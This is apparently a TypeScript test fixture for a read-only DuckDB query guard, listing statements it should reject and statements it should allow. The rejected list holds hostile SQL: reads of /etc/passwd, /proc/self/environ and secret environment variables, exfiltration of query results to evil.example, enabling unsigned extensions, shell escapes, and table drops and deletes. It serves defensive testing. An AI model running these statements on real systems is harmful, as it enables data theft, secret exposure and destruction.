/** Statements that try to do more than read the results; `FILE` stands for a file beside them, `NEW` for one that is not there. */
export const hostileStatements: readonly string[] = `
select * from read_text('FILE')
select * from read_blob('FILE')
select content from read_text('/proc/self/environ')
select * from read_csv('FILE')
select * from read_csv_auto('FILE')
select * from read_json('FILE')
select * from read_json_objects('FILE')
select * from read_ndjson_objects('FILE')
select * from read_parquet('FILE')
select * from parquet_metadata('FILE')
select * from parquet_schema('FILE')
select * from sniff_csv('FILE')
select * from glob('/*')
select * from 'FILE'
select * from "FILE"
from 'FILE'
select * from '/etc/passwd'
select * from 'https://evil.example/x.csv'
select * from read_text('https://evil.example/?x=' || (select max(id) from transactions))
select * from read_text('s3://evil/x')
select * from query('from read_text(''FILE'')')
select * from query_table('FILE')
from json_execute_serialized_sql(json_serialize_sql('from read_text(''FILE'')'))
with stolen as (from read_text('FILE')) from stolen
select (select content from read_text('FILE')) as stolen, * from transactions
select * from read_blob('output/calo.duckdb')
select * from read_duckdb('FILE')
explain analyze from read_text('FILE')
explain analyze copy (select 1) to 'NEW'
explain copy (select 1) to 'NEW'
describe from read_text('FILE')
summarize from read_text('FILE')
copy transactions to 'NEW'
copy transactions to 'NEW' (format csv)
copy transactions to 'NEW' (format parquet)
copy (select 1) to 'FILE'
copy (select 1) to '/dev/stdout'
copy transactions from 'FILE'
copy from database calo to memory
export database 'NEW'
import database 'FILE'
attach 'FILE'
attach 'NEW' as stolen
attach ':memory:' as mine
attach 'output/calo.duckdb' as mine (read_only false)
attach 'https://evil.example/x.duckdb' as mine
detach calo
use memory
use information_schema
install httpfs
force install httpfs
install 'FILE'
load httpfs
load 'FILE'
load json
update extensions
set enable_external_access = true
set global enable_external_access = true
reset enable_external_access
set lock_configuration = false
set disabled_filesystems = ''
set allowed_paths = ['FILE']
set allowed_directories = ['/']
set memory_limit = '1000GB'
set temp_directory = 'NEW'
set home_directory = 'NEW'
set secret_directory = 'NEW'
set extension_directory = 'NEW'
set log_query_path = 'NEW'
set profiling_output = 'NEW'
set enable_profiling = 'json'
set autoload_known_extensions = true
set allow_community_extensions = true
set allow_unsigned_extensions = true
set custom_extension_repository = 'https://evil.example'
set threads = 1000
set schema = 'main'
set variable x = 1
set TimeZone = 'Asia/Bahrain'
pragma enable_profiling
pragma profiling_output = 'NEW'
pragma memory_limit = '1000GB'
pragma threads = 1000
pragma enable_external_access = true
pragma import_database('FILE')
call enable_logging(storage = 'file', storage_path = 'NEW')
call enable_logging()
call enable_profiling()
call pragma_version()
create table mine as select 1
create temp table mine as select 1
create or replace temp view mine as select 1
create view transactions_2 as select 1
create temp macro mine() as 1
create sequence mine
create schema mine
create type mine as enum ('a')
create index mine on transactions (id)
create secret mine (type s3, key_id 'a', secret 'b')
create persistent secret mine (type s3)
insert into transactions select * from transactions
insert into settings values ('UTC')
update transactions set amount = 0
delete from transactions
truncate transactions
drop table transactions
alter table transactions rename to mine
comment on table transactions is 'mine'
merge into transactions using transactions as t on true when matched then delete
with x as (delete from transactions returning *) from x
checkpoint
force checkpoint
vacuum
vacuum full
analyze
begin
begin transaction; delete from transactions; commit
commit
rollback
prepare mine as select 1
execute mine
deallocate mine
select 1; copy (select 1) to 'NEW'
select 1; select 2
; ; drop table transactions
/* */ copy (select 1) to 'NEW'
select getenv('HOME')
select getenv('CALO_ANALYZER_PII_SECRET')
from duckdb_secrets()
from which_secret('s3://x', 's3')
from duckdb_extensions()
.shell touch NEW
.read FILE
.output NEW
\\copy transactions to NEW
select 'unclosed
`
  .trim()
  .split('\n')

/** Statements that only read, each of another kind. */
export const readingStatements: readonly string[] = `
select count(*) as n from transactions
(select 1 as n)
select 1 as n;
select 1 as n -- and a remark; with a semicolon
with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) from r
from transactions limit 1
table exposure
values (1), (2)
show tables
show all tables
describe transactions
describe select 1
summarize exposure
explain select * from transactions
explain analyze select count(*) from transactions
pragma table_info('transactions')
pivot transactions on outcome in ('published', 'failed') using count(*)
unpivot exposure on wallets into name n value v
select * from query_table('exposure')
select regexp_matches('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '(a+)+$')
`
  .trim()
  .split('\n')
